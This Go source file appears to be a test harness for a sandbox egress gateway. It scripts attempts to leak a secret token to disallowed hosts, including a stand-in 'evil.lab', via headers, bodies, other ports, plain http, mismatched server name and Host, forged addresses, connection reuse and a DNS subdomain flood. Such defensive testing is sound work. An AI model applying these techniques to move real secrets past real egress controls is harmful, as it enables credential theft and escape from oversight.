package main

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/miekg/dns"

	"github.com/warren-sandbox/warren/driver/drivertest/egress"
)

func init() {
	for id, f := range map[string]func() []try{
		"C04": elsewhere, "C05": otherWays, "C06": crossed, "C07": forged, "C10": echoes(egress.Heads), "C11": echoes(egress.Bodies), "C15": reused,
	} {
		cases[id] = f
	}
	cases[egress.OwnKeys] = ownKeys
	cases[egress.Flood] = flood
}

// ownKeys are credentials that the attacker has brought for an allowed host.
func ownKeys() (list []try) {
	for i, header := range []string{"Authorization: Bearer W", "authorization: Basic W", "Cookie: session=W", "X-Api-Key: W", "X-Auth-Token: W", "Private-Token: W", "Api-Key: W"} {
		for _, name := range []string{egress.Allowed, egress.Plain} {
			text, signs := word("b37-%d-%s", i, name[:1])
			list = append(list, try{header + " to " + name, signs, func() string {
				text := request(name, "/", strings.Replace(header, "W", text, 1))
				if name == egress.Plain {
					c, err := dial(name, 80)
					return say(c, err, text)
				}
				c, err := dial(name, 443)
				return secure(c, err, name, text)
			}})
		}
	}
	return list
}

// flood are questions for names below one that allows all of them, as many as the variable says.
func flood() (list []try) {
	names, err := strconv.Atoi(os.Getenv(egress.FloodVariable))
	if err != nil {
		names = 1000
	}
	for i := range names {
		name := fmt.Sprintf("%s-%d.wild.lab.", egress.Marker("b08"), i)
		list = append(list, try{"a name below an allowed one", []string{egress.Question("A", name)}, func() string { return query("udp", egress.Resolver, name, dns.TypeA) }})
	}
	return list
}

// token is what the sandbox has in place of a secret; in the twin it is the secret.
func token() string { return os.Getenv(egress.TokenVariable) }

func bearer() string { return "Authorization: Bearer " + token() }

// pay sends the token to a host in a header and in a body.
func pay(what, name, addr string, port int) []try {
	signs := []string{egress.Secret(addr, port)}
	do := func(text string) func() string {
		return func() string {
			c, err := dial(name, port)
			if port == 80 {
				return say(c, err, text)
			}
			return secure(c, err, name, text)
		}
	}
	return []try{
		{what + ", in a header", signs, do(request(name, "/", bearer()))},
		{what + ", in another header", signs, do(request(name, "/", "X-Api-Key: "+token()))},
		{what + ", in the body", signs, do(fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s", name, len(token()), token()))},
	}
}

func elsewhere() (list []try) {
	for name, port := range map[string]int{egress.Allowed: 443, egress.Passed: 443, egress.Plain: 80, "evil.lab": 443} {
		list = append(list, pay(name, name, egress.Addresses(name)[0], port)...)
	}
	return list
}

func otherWays() []try {
	bank := egress.Names[egress.Bank][0]
	list := append(pay("over http", egress.Bank, bank, 80), pay("another port", egress.Bank, bank, 8443)...)
	list = append(list, pay("another name of the host", egress.Branch, egress.Names[egress.Branch][0], 443)...)
	text, signs := word("c05-literal")
	return append(list, try{"its address", signs, func() string {
		c, err := dialAddr(bank, 443)
		return secure(c, err, egress.Bank, request(egress.Bank, "/echo/"+text, bearer()))
	}})
}

func crossed() (list []try) {
	for i, names := range [][2]string{{egress.Bank, "evil.lab"}, {egress.Bank, egress.Branch}, {egress.Branch, egress.Bank}, {egress.Allowed, egress.Bank}} {
		text, signs := word("c06-%d", i)
		list = append(list, try{"server name " + names[0] + ", host " + names[1], signs, func() string {
			c, err := dial(names[0], 443)
			return secure(c, err, names[0], request(names[1], "/echo/"+text, bearer()))
		}}, try{"streams of " + names[0] + " and " + names[1], []string{egress.Read(text + "-h2")}, func() string {
			return streams(names[0], names[:], []string{"/", "/echo/" + text + "-h2"})
		}})
	}
	return list
}

func forged() []try {
	return []try{{"its name at another address", []string{egress.Secret("11.6.7.7", 443)}, func() string {
		c, err := dialAddr("11.6.7.7", 443)
		return secure(c, err, egress.Bank, request(egress.Bank, "/echo/plain", bearer()))
	}}}
}

// echoes are requests whose answers have the value in some form. What came back is for the lab to look through.
func echoes(kinds []string) func() []try {
	return func() (list []try) {
		for _, kind := range kinds {
			list = append(list, try{"an answer with the value: " + kind, []string{egress.Shown(kind)}, func() string {
				got, err := answer(kind)
				if err != nil {
					got = fmt.Appendf(got, "%v", err)
				}
				return string(got)
			}})
		}
		return list
	}
}

// answer returns all of an answer, also what is compressed in it.
func answer(kind string) ([]byte, error) {
	c, err := dial(egress.Bank, 443)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * wait))
	t := tls.Client(c, &tls.Config{ServerName: egress.Bank, InsecureSkipVerify: true})
	io.WriteString(t, request(egress.Bank, "/echo/"+kind, bearer(), "Accept-Encoding: gzip, deflate", "TE: trailers", "Connection: close"))
	r, err := http.ReadResponse(bufio.NewReader(t), nil)
	if err != nil {
		return nil, err
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	var b bytes.Buffer
	fmt.Fprintln(&b, r.Status)
	r.Header.Write(&b)
	b.Write(body)
	r.Trailer.Write(&b)
	if z, err := gzip.NewReader(bytes.NewReader(body)); err == nil {
		io.Copy(&b, z)
	}
	io.Copy(&b, flate.NewReader(bytes.NewReader(body)))
	return b.Bytes(), err
}

func reused() []try {
	return []try{{"a second request of a connection, to a path that is not granted", []string{egress.Used("/other")}, func() string {
		c, err := dial(egress.Bank, 443)
		return inTurn(c, err, egress.Bank, request(egress.Bank, "/echo/plain", bearer()), request(egress.Bank, "/other", bearer()))
	}}, {"the same without the token", []string{egress.Used("/another")}, func() string {
		c, err := dial(egress.Bank, 443)
		second := request(egress.Bank, "/another")
		if strings.HasPrefix(token(), egress.TwinPrefix) {
			second = request(egress.Bank, "/another", bearer()) // what a gateway that did not ask again would make of it
		}
		return inTurn(c, err, egress.Bank, request(egress.Bank, "/echo/plain", bearer()), second)
	}}}
}

// charge is the request that is granted.
func charge() string {
	b, err := answer("nothing")
	for i := 0; i < 3 && err != nil; i++ {
		b, err = answer("nothing")
	}
	if err != nil {
		return err.Error()
	}
	return string(b)
}

// keep makes a request with the token over one connection for each line that it reads, and prints what came back.
func keep() {
	var c net.Conn
	var r *bufio.Reader
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		if c == nil {
			raw, err := dial(egress.Bank, 443)
			if err != nil {
				fail(err.Error())
			}
			c = tls.Client(raw, &tls.Config{ServerName: egress.Bank, InsecureSkipVerify: true})
			r = bufio.NewReader(c)
		}
		c.SetDeadline(time.Now().Add(5 * wait))
		io.WriteString(c, request(egress.Bank, "/echo/"+lines.Text(), bearer()))
		res, err := http.ReadResponse(r, nil)
		if err != nil {
			fail(err.Error())
		}
		body, err := io.ReadAll(res.Body)
		fmt.Printf("%d %q %v\n", res.StatusCode, body, err)
	}
}

// stranger uses a token that is another sandbox's.
func stranger(args []string) {
	c, err := dial(egress.Bank, 443)
	fmt.Println(secure(c, err, egress.Bank, request(egress.Bank, "/echo/stranger", "Authorization: Bearer "+args[0])))
}
